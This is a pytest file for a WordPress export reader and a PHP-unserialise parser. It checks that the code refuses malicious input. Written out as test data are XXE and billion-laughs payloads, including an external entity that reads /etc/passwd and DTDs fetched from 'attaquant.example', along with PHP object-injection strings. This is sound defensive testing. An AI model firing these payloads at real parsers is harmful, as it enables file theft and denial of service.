"""Reading an export as a stream, from whoever wrote it."""

import io
import tracemalloc

import pytest

from articles.importers import php, wxr
from tests.wordpress import HEAD, author, comment, export, post


def read(content: bytes | str) -> list[wxr.Record]:
    return list(wxr.read(io.BytesIO(content.encode() if isinstance(content, str) else content)))


def whole(*parts: str, head: str = HEAD) -> str:
    return head + "".join(parts) + "</channel></rss>"


def test_the_site_comes_first_and_records_in_the_order_of_the_file(tmp_path):
    file = export(tmp_path, author(), post(1, "<p>a</p>", comment(5)), post(2))
    with file.open("rb") as opened:
        site, *records = wxr.read(opened)
    assert site["wp:base_blog_url"] == "https://ancien.example"
    assert [(record.kind, record.id) for record in records] == [("wp:author", ""), ("item", "1"), ("item", "2")]
    assert records[1]["content:encoded"] == "<p>a</p>"
    assert records[1].terms == [wxr.Term("category", "monde", "Monde")]
    assert records[1].comments[0]["wp:comment_id"] == "5"


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.3"])
def test_other_versions_of_the_format_are_read(version):
    records = read(whole(post(7), head=HEAD.replace("export/1.2/", f"export/{version}/")))
    assert records[1].id == "7"


def test_blank_lines_and_a_mark_before_the_declaration_are_passed_over():
    assert read(b"\xef\xbb\xbf\r\n\n " + whole(post(7)).encode())[1].id == "7"


def test_control_characters_that_xml_forbids_are_passed_over():
    assert read(whole(post(7, "<p>a\x0b\x00b\x1f</p>")))[1]["content:encoded"] == "<p>ab</p>"


def test_text_in_pieces_and_entities_of_xml_are_whole():
    text = "é" * 70_000 + "&amp;é"
    assert read(whole(post(7, text)))[1]["content:encoded"] == text


BILLION_LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
EXTERNAL = '<!DOCTYPE rss SYSTEM "http://attaquant.example/x.dtd">'
FILE = '<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attaquant.example/x"> %p;]>'


@pytest.mark.parametrize("declaration", [BILLION_LAUGHS, EXTERNAL, FILE, PARAMETER])
def test_entities_and_document_types_are_refused(declaration):
    evil = whole(post(7)).replace("<rss", f"{declaration}<rss", 1).replace("Texte", "&c;&f;", 1)
    with pytest.raises(wxr.Unreadable, match="type de document"):
        read(evil)


def test_an_endless_text_is_refused_before_it_fills_the_memory():
    def pieces():
        yield HEAD.encode() + b"<item><title>"
        for _ in range(400):
            yield b"a" * 2**16
        pytest.fail("read on and on")

    class Endless(io.RawIOBase):
        source = pieces()

        def read(self, size: int = -1) -> bytes:
            return next(self.source)

    with pytest.raises(wxr.Unreadable, match="20 millions"):
        list(wxr.read(Endless()))


def test_endless_nesting_is_refused():
    with pytest.raises(wxr.Unreadable, match="imbriqué"):
        read(HEAD + "<a>" * 100)


def test_a_damaged_file_names_its_line():
    broken = whole(post(1), post(2)).replace("</item>", "</itme>", 1)
    line = broken[: broken.index("</itme>")].count("\n") + 1
    with pytest.raises(wxr.Unreadable, match=f"ligne {line}"):
        read(broken)


def test_memory_does_not_grow_with_the_file():
    class Long(io.RawIOBase):
        """An export of 30 MB that is made while it is read."""

        left = 3_000

        def read(self, size: int = -1) -> bytes:
            self.left -= 1
            if self.left == 2_999:
                return HEAD.encode()
            if self.left < 0:
                return b""
            return b"</channel></rss>" if self.left == 0 else post(self.left, "x" * 10_000).encode()

    tracemalloc.start()
    try:
        assert sum(1 for _ in wxr.read(Long())) == 2_999
        assert tracemalloc.get_traced_memory()[1] < 3_000_000
    finally:
        tracemalloc.stop()


def test_php_values_are_read():
    text = 'a:4:{i:0;s:7:"Crédit";s:1:"b";b:1;s:1:"d";d:1.5;s:1:"n";a:1:{s:1:"x";N;}}'
    assert php.loads(text) == {0: "Crédit", "b": True, "d": 1.5, "n": {"x": None}}


@pytest.mark.parametrize(
    "text",
    ["", "x", 's:99:"court";', "a:1:{i:0;i:1;", "a:99999999999:{}", "i:12", "i:;", "d:a;", "a:1:{a:0:{}i:1;}", 's:1:"a";s:1:"b";',
     'O:8:"stdClass":0:{}', "C:1:x", "a:1:{i:0;" * 5_000, 'a:1:{i:0;O:8:"Exploit_":1:{s:1:"x";i:1;}}'],
)  # fmt: skip
def test_what_php_did_not_write_and_every_object_is_refused(text):
    with pytest.raises(php.NotSerialised):
        php.loads(text)


def test_the_credit_is_found_even_when_a_search_and_replace_spoilt_the_lengths():
    good = 'a:1:{s:10:"image_meta";a:2:{s:6:"credit";s:3:"AFP";s:7:"caption";s:0:"";}}'
    assert php.image_meta(good)["credit"] == "AFP"
    assert php.image_meta(good.replace('s:3:"AFP"', 's:9:"AFP"'))["credit"] == "AFP"
    assert php.image_meta("") == php.image_meta("a:0:{}") == php.image_meta('a:1:{s:10:"image_meta";s:1:"x";}') == {}
